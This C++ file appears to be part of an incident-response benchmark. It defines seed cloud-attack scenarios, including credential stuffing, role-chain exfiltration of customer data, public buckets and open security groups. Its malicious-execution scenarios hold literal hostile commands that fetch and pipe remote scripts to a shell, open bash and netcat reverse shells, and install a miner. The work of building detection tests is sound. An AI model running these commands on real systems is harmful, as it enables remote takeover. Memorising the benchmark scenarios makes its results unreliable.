// SPDX-License-Identifier: Apache-2.0
#include "irbench/scenario/seeds.hpp"

#include "irbench/scenario/builders.hpp"

namespace irbench::scenario {

using namespace build;
using A = cloud::ActionType;

namespace {

ScenarioSpec base(std::string id, Category c, const char* start) {
  ScenarioSpec s;
  s.scenario_id = std::move(id);
  s.category = c;
  s.intended_verdict = Verdict::TP;
  s.start_time = parse_rfc3339(start);
  s.env_spec.category = c;
  s.env_spec.provisioned_at = s.start_time - 40 * kDay;
  s.background_events = 20;
  s.lineage = {s.scenario_id};
  return s;
}

ScenarioSpec bf_console_stuffing() {
  ScenarioSpec s = base("bf-console-stuffing", Category::brute_force, "2024-03-12T02:14:00.000Z");
  s.env_spec.users.push_back({"primary", "j.alvarez", {"IAMFullAccess", "ReadOnlyAccess"}, "Summer-2023!", 1, {}});
  const std::string ip = "185.220.101.47";
  const std::string ip2 = "45.137.21.9";
  s.steps = {
      trigger(repeated(step("spray", anonymous(ip), A::ConsoleLogin,
                            {{"userName", "j.alvarez"}, {"password", "guess-{rep}"}}, 0),
                       20, 30 * kSecond)),
      trigger(step("login", anonymous(ip), A::ConsoleLogin,
                   {{"userName", "j.alvarez"}, {"password", "Summer-2023!"}}, 11 * kMinute, {"spray"})),
      step("recon", user("j.alvarez", "", ip), A::ListUsers, {}, 15 * kMinute, {"login"}),
      step("create-user", user("j.alvarez", "", ip), A::CreateUser, {{"userName", "svc-backup-sync"}},
           22 * kMinute, {"recon"}),
      step("create-key", user("j.alvarez", "", ip), A::CreateAccessKey, {{"userName", "svc-backup-sync"}},
           23 * kMinute, {"create-user"}),
      step("escalate", user("j.alvarez", "", ip), A::AttachUserPolicy,
           {{"userName", "svc-backup-sync"}, {"policyName", "AdministratorAccess"}}, 25 * kMinute, {"create-user"}),
      step("key-check", user("svc-backup-sync", "step:create-key", ip2), A::GetCallerIdentity, {},
           70 * kMinute, {"create-key", "escalate"}),
      step("key-buckets", user("svc-backup-sync", "step:create-key", ip2), A::ListBuckets, {}, 72 * kMinute,
           {"key-check"}),
  };
  s.alert_template =
      "Possible credential stuffing against IAM user {user}: {failures} failed console sign-ins followed by "
      "a success from {source_ip}.";
  return s;
}

ScenarioSpec bf_password_spray() {
  ScenarioSpec s = base("bf-password-spray", Category::brute_force, "2024-05-21T23:40:00.000Z");
  s.env_spec.users.push_back({"primary", "r.okafor", {"PowerUserAccess", "IAMFullAccess"}, "Okafor#2024", 0, {}});
  const std::string ip = "193.32.162.70";
  const std::string ip2 = "179.43.187.12";
  s.steps = {
      trigger(repeated(step("spray", anonymous(ip), A::ConsoleLogin,
                            {{"userName", "r.okafor"}, {"password", "Spring{rep}!"}}, 0),
                       12, 45 * kSecond)),
      trigger(step("login", anonymous(ip), A::ConsoleLogin,
                   {{"userName", "r.okafor"}, {"password", "Okafor#2024"}}, 10 * kMinute, {"spray"})),
      step("recon", user("r.okafor", "", ip), A::GetAccountAuthorizationDetails, {}, 14 * kMinute, {"login"}),
      step("new-key", user("r.okafor", "", ip), A::CreateAccessKey, {{"userName", "r.okafor"}}, 19 * kMinute,
           {"recon"}),
      step("escalate", user("r.okafor", "", ip), A::AttachUserPolicy,
           {{"userName", "r.okafor"}, {"policyName", "AdministratorAccess"}}, 21 * kMinute, {"recon"}),
      step("key-buckets", user("r.okafor", "step:new-key", ip2), A::ListBuckets, {}, 95 * kMinute,
           {"new-key"}),
      step("key-instances", user("r.okafor", "step:new-key", ip2), A::DescribeInstances, {}, 97 * kMinute,
           {"key-buckets"}),
  };
  s.alert_template =
      "Possible credential stuffing against IAM user {user}: {failures} failed console sign-ins followed by "
      "a success from {source_ip}.";
  return s;
}

ScenarioSpec ua_role_chain_exfil() {
  ScenarioSpec s = base("ua-role-chain-exfil", Category::unauthorized_access, "2024-04-03T09:05:00.000Z");
  s.env_spec.accounts = {"primary", "analytics"};
  s.env_spec.users.push_back({"primary", "ci-runner", {}, std::nullopt, 1, {}});
  s.env_spec.roles.push_back({"primary", "deploy-role", {"ReadOnlyAccess"},
                              {{cloud::PrincipalKind::user, "primary", "ci-runner"}}, {}});
  s.env_spec.roles.push_back({"analytics", "data-reader", {"AmazonS3ReadOnlyAccess"},
                              {{cloud::PrincipalKind::role, "primary", "deploy-role"}}, {}});
  s.env_spec.buckets.push_back({"analytics", "customer-exports-prod", "private",
                                objects("exports/customers-{rep}.csv", 14, 4'800'000), {}});
  const std::string ip = "91.219.236.18";
  s.steps = {
      trigger(step("whoami", user("ci-runner", "key:0", ip), A::GetCallerIdentity, {}, 0)),
      step("assume-1", user("ci-runner", "key:0", ip), A::AssumeRole,
           {{"roleName", "deploy-role"}, {"roleSessionName", "ci-runner"}}, 4 * kMinute, {"whoami"}),
      step("assume-2", role_session("deploy-role", "assume-1", ip), A::AssumeRole,
           {{"roleName", "data-reader"}, {"roleAccount", "analytics"}, {"roleSessionName", "sync"}}, 9 * kMinute,
           {"assume-1"}),
      step("list-buckets", role_session("data-reader", "assume-2", ip, "analytics"), A::ListBuckets, {},
           12 * kMinute, {"assume-2"}),
      step("list-objects", role_session("data-reader", "assume-2", ip, "analytics"), A::ListObjectsV2,
           {{"bucketName", "customer-exports-prod"}}, 14 * kMinute, {"list-buckets"}),
      repeated(step("read", role_session("data-reader", "assume-2", ip, "analytics"), A::GetObject,
                    {{"bucketName", "customer-exports-prod"}, {"key", "exports/customers-{rep}.csv"}},
                    16 * kMinute, {"list-objects"}),
               12, 20 * kSecond),
  };
  s.alert_template =
      "Access key {access_key} of IAM user {user} was used from an unfamiliar network location {source_ip}.";
  return s;
}

ScenarioSpec ua_archive_chain() {
  ScenarioSpec s = base("ua-archive-chain", Category::unauthorized_access, "2024-06-17T14:22:00.000Z");
  s.env_spec.users.push_back({"primary", "etl-batch", {}, std::nullopt, 1, {}});
  s.env_spec.roles.push_back({"primary", "etl-role", {"AmazonS3ReadOnlyAccess"},
                              {{cloud::PrincipalKind::user, "primary", "etl-batch"}}, {}});
  s.env_spec.roles.push_back({"primary", "archive-admin", {"AmazonS3FullAccess"},
                              {{cloud::PrincipalKind::role, "primary", "etl-role"}}, {}});
  s.env_spec.buckets.push_back({"primary", "ledger-archive-2019", "private",
                                objects("ledger/2019/month-{rep}.parquet", 12, 9'500'000), {}});
  const std::string ip = "5.188.206.14";
  s.steps = {
      trigger(step("assume-1", user("etl-batch", "key:0", ip), A::AssumeRole,
                   {{"roleName", "etl-role"}, {"roleSessionName", "etl-nightly"}}, 0)),
      step("assume-2", role_session("etl-role", "assume-1", ip), A::AssumeRole,
           {{"roleName", "archive-admin"}, {"roleSessionName", "maint"}}, 6 * kMinute, {"assume-1"}),
      step("list-buckets", role_session("archive-admin", "assume-2", ip), A::ListBuckets, {}, 8 * kMinute,
           {"assume-2"}),
      step("list-objects", role_session("archive-admin", "assume-2", ip), A::ListObjects,
           {{"bucketName", "ledger-archive-2019"}}, 10 * kMinute, {"list-buckets"}),
      repeated(step("read", role_session("archive-admin", "assume-2", ip), A::SelectObjectContent,
                    {{"bucketName", "ledger-archive-2019"}, {"key", "ledger/2019/month-{rep}.parquet"}},
                    13 * kMinute, {"list-objects"}),
               11, 40 * kSecond),
  };
  s.alert_template =
      "Role {role} was assumed by {principal} from {source_ip}, an address not seen for this identity before.";
  return s;
}

ScenarioSpec mc_public_bucket() {
  ScenarioSpec s = base("mc-public-bucket", Category::misconfiguration, "2024-02-08T16:47:00.000Z");
  s.env_spec.users.push_back({"primary", "ops-automation", {"AmazonS3FullAccess", "AmazonEC2FullAccess"},
                              std::nullopt, 1, {}});
  s.env_spec.buckets.push_back({"primary", "finance-reports-internal", "private",
                                objects("finance/q-report-{rep}.pdf", 12, 1'200'000), {}});
  s.env_spec.security_groups.push_back({"primary", "sg-0a11b7c39d2e4f501", "bastion-sg",
                                        {{"tcp", 22, 22, "10.0.0.0/8"}}});
  const std::string ip = "102.165.48.77";
  const std::string reader = "23.129.64.210";
  s.steps = {
      trigger(step("open-bucket", user("ops-automation", "key:0", ip), A::PutBucketPolicy,
                   {{"bucketName", "finance-reports-internal"}, {"grant", "public-read"}}, 0)),
      step("open-ssh", user("ops-automation", "key:0", ip), A::AuthorizeSecurityGroupIngress,
           {{"groupId", "sg-0a11b7c39d2e4f501"}, {"port", "22"}, {"cidr", "0.0.0.0/0"}}, 3 * kMinute,
           {"open-bucket"}),
      step("anon-list", anonymous(reader), A::ListObjects, {{"bucketName", "finance-reports-internal"}},
           2 * kHour, {"open-bucket"}),
      repeated(step("anon-read", anonymous(reader), A::GetObject,
                    {{"bucketName", "finance-reports-internal"}, {"key", "finance/q-report-{rep}.pdf"}},
                    2 * kHour + 2 * kMinute, {"anon-list"}),
               11, 15 * kSecond),
  };
  s.alert_template = "S3 bucket {bucket} now allows public read access through its bucket policy.";
  return s;
}

ScenarioSpec mc_open_security_group() {
  ScenarioSpec s = base("mc-open-security-group", Category::misconfiguration, "2024-07-29T11:03:00.000Z");
  s.env_spec.users.push_back({"primary", "platform-eng", {"AmazonEC2FullAccess", "AmazonS3FullAccess"},
                              std::nullopt, 1, {}});
  s.env_spec.security_groups.push_back({"primary", "sg-07d2f1e8a4c93b260", "orders-db-sg",
                                        {{"tcp", 5432, 5432, "10.0.0.0/8"}}});
  s.env_spec.security_groups.push_back({"primary", "sg-0e5b93c1f7a2d8640", "admin-rdp-sg", {}});
  s.env_spec.buckets.push_back({"primary", "partner-drop-zone", "private",
                                objects("drop/batch-{rep}.csv", 6, 600'000), {}});
  const std::string ip = "194.26.29.113";
  const std::string reader = "146.70.53.17";
  s.steps = {
      trigger(step("open-db", user("platform-eng", "key:0", ip), A::AuthorizeSecurityGroupIngress,
                   {{"groupId", "sg-07d2f1e8a4c93b260"}, {"port", "5432"}, {"cidr", "0.0.0.0/0"}}, 0)),
      step("open-rdp", user("platform-eng", "key:0", ip), A::ModifySecurityGroupRules,
           {{"groupId", "sg-0e5b93c1f7a2d8640"}, {"port", "3389"}, {"cidr", "0.0.0.0/0"}}, 6 * kMinute,
           {"open-db"}),
      step("open-bucket", user("platform-eng", "key:0", ip), A::PutBucketPolicy,
           {{"bucketName", "partner-drop-zone"}, {"grant", "public-read"}}, 9 * kMinute, {"open-db"}),
      step("anon-list", anonymous(reader), A::ListObjectsV2, {{"bucketName", "partner-drop-zone"}},
           3 * kHour, {"open-bucket"}),
      repeated(step("anon-read", anonymous(reader), A::GetObject,
                    {{"bucketName", "partner-drop-zone"}, {"key", "drop/batch-{rep}.csv"}},
                    3 * kHour + kMinute, {"anon-list"}),
               4, 20 * kSecond),
  };
  s.alert_template = "Internet-facing ingress detected: {cidr} allowed to reach {group} (port {port}).";
  return s;
}

cloud::EnvironmentSpec mfe_env(ScenarioSpec& s, const std::string& instance) {
  s.env_spec.roles.push_back({"primary", "web-app-role", {"AmazonS3ReadOnlyAccess", "AmazonSSMManagedInstanceCore"},
                              {}, {"ec2.amazonaws.com"}});
  s.env_spec.security_groups.push_back({"primary", "sg-0c4e7d2b9a1f35e80", "web-tier-sg",
                                        {{"tcp", 443, 443, "0.0.0.0/0"}}});
  s.env_spec.instances.push_back({"primary", instance, "web-frontend-1", "web-app-role",
                                  {"sg-0c4e7d2b9a1f35e80"}, cloud::InstanceState::running, true});
  s.env_spec.buckets.push_back({"primary", "app-config-prod", "private",
                                objects("config/service-{rep}.yaml", 4, 8'000), {}});
  return s.env_spec;
}

ScenarioSpec mfe_reverse_shell() {
  ScenarioSpec s = base("mfe-ssm-reverse-shell", Category::malicious_file_execution, "2024-01-19T04:31:00.000Z");
  const std::string inst = "i-0f3a9c2e71b84d5a6";
  mfe_env(s, inst);
  s.env_spec.users.push_back({"primary", "deploy-bot", {"AmazonSSMFullAccess", "AmazonEC2FullAccess"},
                              std::nullopt, 1, {}});
  const std::string ip = "198.51.100.23";
  s.steps = {
      trigger(step("stage", user("deploy-bot", "key:0", ip), A::SendCommand,
                   {{"instanceId", inst}, {"commands", "curl -s http://198.51.100.23/x.sh | bash"}}, 0)),
      step("shell", user("deploy-bot", "key:0", ip), A::SendCommand,
           {{"instanceId", inst}, {"commands", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"}}, 5 * kMinute,
           {"stage"}),
      step("open-port", user("deploy-bot", "key:0", ip), A::AuthorizeSecurityGroupIngress,
           {{"groupId", "sg-0c4e7d2b9a1f35e80"}, {"port", "4444"}, {"cidr", "198.51.100.23/32"}}, 7 * kMinute,
           {"shell"}),
      step("creds-whoami", instance_session(inst, ip), A::GetCallerIdentity, {}, 31 * kMinute, {"shell"}),
      step("creds-buckets", instance_session(inst, ip), A::ListBuckets, {}, 33 * kMinute, {"creds-whoami"}),
      step("creds-list", instance_session(inst, ip), A::ListObjects, {{"bucketName", "app-config-prod"}},
           35 * kMinute, {"creds-buckets"}),
      repeated(step("creds-read", instance_session(inst, ip), A::GetObject,
                    {{"bucketName", "app-config-prod"}, {"key", "config/service-{rep}.yaml"}}, 36 * kMinute,
                    {"creds-list"}),
               3, 10 * kSecond),
  };
  s.alert_template = "Systems Manager command with a suspicious download was sent to {instance} by {principal}.";
  return s;
}

ScenarioSpec mfe_association_miner() {
  ScenarioSpec s = base("mfe-association-miner", Category::malicious_file_execution, "2024-08-02T20:12:00.000Z");
  const std::string inst = "i-03b7e5d91c2fa4086";
  mfe_env(s, inst);
  s.env_spec.users.push_back({"primary", "patch-runner", {"AmazonSSMFullAccess"}, std::nullopt, 1, {}});
  const std::string ip = "203.0.113.77";
  s.steps = {
      trigger(step("persist", user("patch-runner", "key:0", ip), A::CreateAssociation,
                   {{"instanceId", inst}, {"commands", "wget -qO- http://203.0.113.77/miner.sh | sh"}}, 0)),
      step("shell", user("patch-runner", "key:0", ip), A::SendCommand,
           {{"instanceId", inst}, {"commands", "nc 203.0.113.77 9001 -e /bin/sh"}}, 12 * kMinute, {"persist"}),
      step("creds-whoami", instance_session(inst, ip), A::GetCallerIdentity, {}, 40 * kMinute, {"shell"}),
      step("creds-ec2", instance_session(inst, ip), A::DescribeInstances, {}, 41 * kMinute, {"creds-whoami"}),
      step("creds-buckets", instance_session(inst, ip), A::ListBuckets, {}, 43 * kMinute, {"creds-whoami"}),
  };
  s.alert_template = "Unexpected State Manager association created on {instance} by {principal}.";
  return s;
}

}  // namespace

const std::vector<ScenarioSpec>& seed_library() {
  static const std::vector<ScenarioSpec> seeds = {
      bf_console_stuffing(), bf_password_spray(), ua_role_chain_exfil(), ua_archive_chain(),
      mc_public_bucket(),    mc_open_security_group(), mfe_reverse_shell(), mfe_association_miner(),
  };
  return seeds;
}

std::vector<ScenarioSpec> seeds_for(Category c) {
  std::vector<ScenarioSpec> out;
  for (const auto& s : seed_library()) {
    if (s.category == c) out.push_back(s);
  }
  return out;
}

}  // namespace irbench::scenario
